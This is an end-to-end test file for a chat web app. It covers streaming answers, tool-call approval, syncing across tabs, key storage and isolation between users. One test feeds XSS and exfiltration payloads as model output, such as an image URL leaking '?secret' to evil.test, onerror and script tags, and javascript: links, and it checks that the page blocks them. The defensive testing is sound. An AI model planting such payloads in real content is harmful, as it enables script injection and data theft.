import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { answer, button, type ChatSite, openSite, say, signIn } from './chat-site'

let site: ChatSite

beforeAll(async () => {
  site = await openSite()
})
afterAll(() => site.close())

const words = (count: number) => Array.from({ length: count }, (_, index) => `word-${index + 1}`).join(' ')

describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (contract) => {
  const start = `/?contract=${contract}`

  it('sends, shows what streams in, folds the calls of tools, and lists the chat', () =>
    site.withTabs(async ({ open }) => {
      const page = await open(start)
      await signIn(page)
      const sent: string[] = []
      page.on('request', (request) => sent.push(`${request.method()} ${new URL(request.url()).pathname}`))
      await say(page, 'What is (2 + 3) * 4 ?')
      const tool = page.locator('.tool-call')
      await expect.poll(() => tool.locator('.tool-state').textContent()).toBe('done')
      await expect.poll(() => answer(page).last().textContent()).toContain('calculator says: {"value":20}')
      expect(await page.getByText('"expression"').isVisible()).toBe(false)
      await tool.locator('summary').click()
      expect(await page.getByText('"expression"').isVisible()).toBe(true)
      await page.getByRole('link', { name: 'What is (2 + 3) * 4 ?' }).waitFor()
      expect(sent.filter((line) => line.startsWith('POST /api/')).at(-1)).toMatch(
        contract === 'runs' ? /^POST \/api\/runs$/ : /^POST \/api\/chat\/[\w-]+$/,
      )
    }))

  it('goes on where it was after a reload in the middle of an answer', () =>
    site.withTabs(async ({ open }) => {
      const page = await open(start)
      await signIn(page)
      await say(page, 'write 500 words')
      await expect.poll(() => answer(page).textContent()).toContain('word-20 ')
      await page.reload()
      // What is shown first is no less than what was there.
      expect((await answer(page).textContent())?.startsWith(words(20))).toBe(true)
      await expect.poll(() => answer(page).textContent()).toBe(words(500))
      await button(page, 'Stop').waitFor({ state: 'detached' })
    }))

  it('loses and repeats nothing while the apis are started anew', () =>
    site.withTabs(async ({ open }) => {
      const page = await open(start)
      await signIn(page)
      await say(page, 'write 900 words')
      await expect.poll(() => answer(page).textContent()).toContain('word-20 ')
      await page.evaluate(watchShrinking)
      await site.stopApis()
      expect((await answer(page).textContent())?.startsWith(words(20))).toBe(true)
      await site.startApis()
      await expect.poll(() => answer(page).textContent()).toBe(words(900))
      expect(await page.evaluate(() => Reflect.get(window, 'shrunk'))).toBe(false)
    }))

  it('stops, says so, and goes on with the next message', () =>
    site.withTabs(async ({ open }) => {
      const page = await open(start)
      await signIn(page)
      await say(page, 'write 20000 words')
      await expect.poll(() => answer(page).textContent()).toContain('word-20 ')
      await button(page, 'Stop').click()
      await page.getByText('You stopped this.').waitFor()
      const shown = await answer(page).textContent()
      await page.reload()
      await page.getByText('You stopped this.').waitFor()
      expect(await answer(page).textContent()).toBe(shown)
      await say(page, 'Hello again')
      await expect.poll(() => answer(page).textContent()).toContain('You said: Hello again.')
    }))

  it('asks before a call, takes edited arguments, and offers the file', () =>
    site.withTabs(async ({ open }) => {
      const page = await open(start)
      await signIn(page)
      await say(page, 'note: buy milk')
      const form = page.getByRole('form', { name: 'Decide about write_file' })
      const field = form.getByRole('textbox', { name: 'Arguments' })
      await field.fill('{ "path": ')
      await form.getByRole('button', { name: 'Approve' }).click()
      await form.getByText('This is no JSON').waitFor()
      await field.fill('{ "path": 7 }')
      await form.getByRole('button', { name: 'Approve' }).click()
      await form.getByText(/makes no sense/).waitFor()
      await field.fill('{ "path": "list.md", "text": "buy bread" }')
      await form.getByRole('button', { name: 'Approve' }).click()
      await expect.poll(() => answer(page).last().textContent()).toContain('"written":9')
      await page.locator('.tool-call summary').click()
      await page.getByText('Arguments, edited by you').waitFor()
      await button(page, /Files/).click()
      expect(await page.getByRole('link', { name: 'list.md' }).getAttribute('download')).toBe('list.md')
    }))

  it('shows the same in two tabs, and a decision in one is heard in the other', () =>
    site.withTabs(async ({ open }) => {
      const first = await open(start)
      await signIn(first)
      await say(first, 'note: eggs')
      await first.getByRole('form', { name: 'Decide about write_file' }).waitFor()
      const second = await open('/approvals')
      await second.getByRole('link', { name: 'note: eggs' }).waitFor()
      await second.getByRole('button', { name: 'Refuse' }).click()
      await second.getByRole('textbox', { name: /Why not/ }).fill('we have some')
      await second.getByRole('button', { name: 'Refuse' }).click()
      await second.getByText('Nothing waits for you').waitFor()
      await expect.poll(() => answer(first).last().textContent()).toContain('refused this call: we have some')
      await second.goto(first.url())
      await expect.poll(() => answer(second).last().textContent()).toContain('refused this call: we have some')
      await say(second, 'Is anybody there?')
      await expect.poll(() => answer(first).last().textContent()).toContain('You said: Is anybody there?')
    }))
})

describe('the page', () => {
  it('shows what a model wrote as text: it fetches nothing, runs nothing, and no link of it runs anything', () =>
    site
      .withTabs(
        async ({ open }) => {
          const page = await open()
          await signIn(page)
          const asked: string[] = []
          page.on('request', (request) => asked.push(new URL(request.url()).host))
          const evil = [
            '![a](http://evil.test/a.png?secret)',
            '<img src=http://evil.test/b.png onerror=alert(1)>',
            '<script>alert(2)</script><style>*{background:url(http://evil.test/c)}</style>',
            '[click](javascript:alert(3)) [data](data:text/html,x)',
          ]
          await say(page, `${evil.join('\n\n')}\n\nthe end`)
          await expect.poll(() => answer(page).textContent()).toContain('the end')
          const hosts = new Set(asked)
          expect([...hosts]).toEqual([new URL(site.url).host])
          expect(await answer(page).locator('img, script, style, iframe, form, svg:not(.icon)').count()).toBe(0)
          const links = await answer(page)
            .locator('a')
            .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
          expect(links.filter((href) => href !== null && !/^https?:/.test(href))).toEqual([])
          const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
          expect(policy).toContain("default-src 'none'")
          const isRefused = page.evaluate(() =>
            fetch('http://evil.test/').then(
              () => false,
              () => true,
            ),
          )
          expect(await isRefused).toBe(true)
        },
        { bypassCSP: false },
      )
      .catch((error: Error) => {
        // The refusal of the last line is what the console complains of.
        if (!/Content Security Policy/.test(error.message)) throw error
      }))

  it('stores a key and never shows it again', () =>
    site.withTabs(async ({ open }) => {
      const page = await open('/settings')
      await page.getByRole('button', { name: 'Grace' }).click()
      await page.getByLabel('Provider').selectOption('openai-compatible')
      await page.getByLabel('API key').fill('sk-very-secret')
      await page.getByLabel('Reasoning').selectOption('low')
      await button(page, 'Save').click()
      await page.getByText('Saved.').waitFor()
      await page.reload()
      await page.getByPlaceholder('One is stored.').waitFor()
      expect(await page.getByLabel('API key').inputValue()).toBe('')
      expect(await page.content()).not.toContain('sk-very-secret')
      await button(page, 'Remove the key').click()
      await page.getByPlaceholder('None is stored').waitFor()
      await page.getByLabel('Provider').selectOption('demo')
      await button(page, 'Save').click()
    }))

  it('renames and deletes a chat, and shows one person nothing of another', () =>
    site.withTabs(async ({ open }) => {
      const page = await open()
      await signIn(page)
      await say(page, 'Something of Ada')
      await expect.poll(() => answer(page).textContent()).toContain('You said')
      await button(page, 'Rename this chat').click()
      await page.getByRole('textbox', { name: 'Name' }).fill('Renamed')
      await button(page, 'Rename').click()
      await page.getByRole('heading', { name: 'Renamed' }).waitFor()
      const address = page.url()
      await button(page, 'Sign out').click()
      await signIn(page, 'Grace')
      expect(await page.getByRole('link', { name: 'Renamed' }).count()).toBe(0)
      await page.goto(address)
      await page.getByText('There is no such chat').waitFor()
      await button(page, 'Sign out').click()
      await signIn(page)
      await page.getByRole('link', { name: 'Renamed' }).click()
      await button(page, 'Delete this chat').click()
      await button(page, 'Delete').click()
      await page.getByRole('heading', { name: 'New chat' }).waitFor()
      await expect.poll(() => page.getByRole('link', { name: 'Renamed' }).count()).toBe(0)
    }))
})

/** Whether the answer was ever shorter than before. */
function watchShrinking(): void {
  let longest = 0
  Reflect.set(window, 'shrunk', false)
  const look = () => {
    const length = document.querySelector('.run .prose')?.textContent?.length ?? 0
    if (length < longest) Reflect.set(window, 'shrunk', true)
    longest = Math.max(longest, length)
  }
  new MutationObserver(look).observe(document.body, { childList: true, subtree: true, characterData: true })
}
